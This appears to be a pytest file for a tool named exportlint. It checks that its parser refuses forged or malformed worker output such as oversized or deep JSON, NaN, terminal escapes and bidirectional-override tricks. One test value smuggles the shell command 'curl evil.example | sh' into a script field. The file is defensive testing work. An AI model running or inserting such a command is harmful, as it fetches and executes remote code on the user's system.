"""What a worker prints is read strictly: whatever user code can forge or break is refused, never believed or raised."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from exportlint.verify.answers import parse_job, parse_result
from exportlint.verify.contract import (
    LARGEST_ANSWER,
    LONGEST_TEXT,
    Attached,
    ContractError,
    Counterexample,
    InputValue,
    Job,
    Opset,
    Result,
    Step,
    printable,
)

JOB = Job(
    "net.py::Net",
    "/src",
    "onnx",
    14,
    (1, "a"),
    {"b": True},
    {"x": "float32[n]"},
    {"x": {0: "n", 2: "m"}},
    3,
    9.5,
    2**30,
)
RESULT = Result(
    "net.py::Net",
    "onnx",
    "mismatch",
    "the values differ",
    "net.py",
    5,
    "EXL101",
    Opset(14, 18),
    1e-7,
    0.5,
    9,
    2,
    Counterexample(
        "negated", 3, (InputValue("x", "float32", (2, 3), "tensor([1.])"), InputValue("n", "int", None, "3"))
    ),
    "logits",
    "1",
    "-2",
    (Step("net.py", 7, "went another way"),),
    {"dynamic": "ok"},
    {"net.py": "5-9,12"},
    {"build": 0.1},
)


def written(**changes: Any) -> bytes:
    return json.dumps({**RESULT.to_dict(), **changes}).encode()


def test_a_job_and_a_result_survive_the_way() -> None:
    assert parse_job(JOB.to_json()) == JOB
    assert parse_result(json.dumps(RESULT.to_dict()).encode(), JOB) == RESULT
    attached = replace(RESULT, attached=Attached(("net.py",), "UEs=", "import numpy\n"))
    assert parse_result(json.dumps(attached.to_answer()).encode(), JOB) == attached
    assert attached.to_dict() == RESULT.to_dict()


@pytest.mark.parametrize("value", [float("nan"), {1, 2}])
def test_a_job_that_json_cannot_carry_is_refused(value: object) -> None:
    with pytest.raises(ContractError, match=r"net\.py::Net"):
        Job("net.py::Net", "/src", "onnx", kwargs={"a": value}).to_json()


HOSTILE = {
    "nothing": b"",
    "no JSON": b"Segmentation fault",
    "two documents": written() + written(),
    "a list": b"[]",
    "not UTF-8": b"\xff\xfe",
    "too large": b" " * (LARGEST_ANSWER + 1),
    "too deep": b"[" * 200_000,
    "a number of 10,000 digits": b'{"line": ' + b"9" * 10_000 + b"}",
    "NaN": written().replace(b"1e-07", b"NaN"),
    "infinity": written().replace(b"1e-07", b"-Infinity"),
    "a float beyond range": written().replace(b"1e-07", b"1e999"),
    "a key twice": written()[:-1] + b', "status": "ok"}',
    "an unknown key": written(extra=1),
    "another model": written(model="other.py::Net"),
    "another target": written(target="trace"),
    "an unknown target": written(target="coreml"),
    "an unknown status": written(status="verified"),
    "a status that is no string": written(status=["ok"]),
    "a missing key": json.dumps({k: v for k, v in RESULT.to_dict().items() if k != "reason"}).encode(),
    "a long text": written(reason="x" * (LONGEST_TEXT + 1)),
    "control characters": written(reason="\x1b[2J::error::"),
    "a direction override": written(reason="\u202egnp.exe"),
    "a line separator": written(reason="a\u2028b"),
    "half a surrogate pair": written(reason="\ud800"),
    "line zero": written(line=0),
    "a line that is true": written(line=True),
    "a line without a path": written(path=None),
    "a negative count": written(inputs_tried=-1),
    "a count as float": written(inputs_tried=9.0),
    "a negative difference": written(max_abs=-1),
    "a text for a number": written(max_abs="0"),
    "a whole number that no float can be": written(max_abs=10**400),
    "a program for people to run": written(
        counterexample={**RESULT.to_dict()["counterexample"], "script": "src/evil.py; curl evil.example | sh"}
    ),
    "too many steps": written(trail=[{"path": "a", "line": 1, "what": "b"}] * 65),
    "a step of another form": written(trail=[{"path": "a"}]),
    "lines that are none": written(ran={"net.py": "5-x"}),
    "checks that are no texts": written(checks={"dynamic": True}),
    "an opset of another form": written(opset=14),
    "a flag that is a number": written(cached=1),
    "files read that are no names": written(attached={"read": [3], "npz": "", "script": ""}),
    "too large a file": written(attached={"read": [], "npz": "A" * 11_000_000, "script": ""}),
    "too long a script": written(attached={"read": [], "npz": "", "script": "x" * 20_001}),
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_the_contract_does_not_allow_is_refused(text: bytes) -> None:
    with pytest.raises(ContractError):
        parse_result(text, JOB)


def test_any_byte_changed_is_read_or_refused() -> None:
    good = written()
    for at in range(len(good)):
        for byte in (b"", b"\x00", b'"', b"9", b"}"):
            try:
                parse_result(good[:at] + byte + good[at + 1 :], JOB)
            except ContractError:
                continue


def test_text_of_strangers_is_made_fit_for_a_result() -> None:
    text = printable("a\x1b[31m\u202eb\ud800" + "x" * 9_000)
    assert len(text) == LONGEST_TEXT
    assert parse_result(written(reason=text), JOB).reason == text
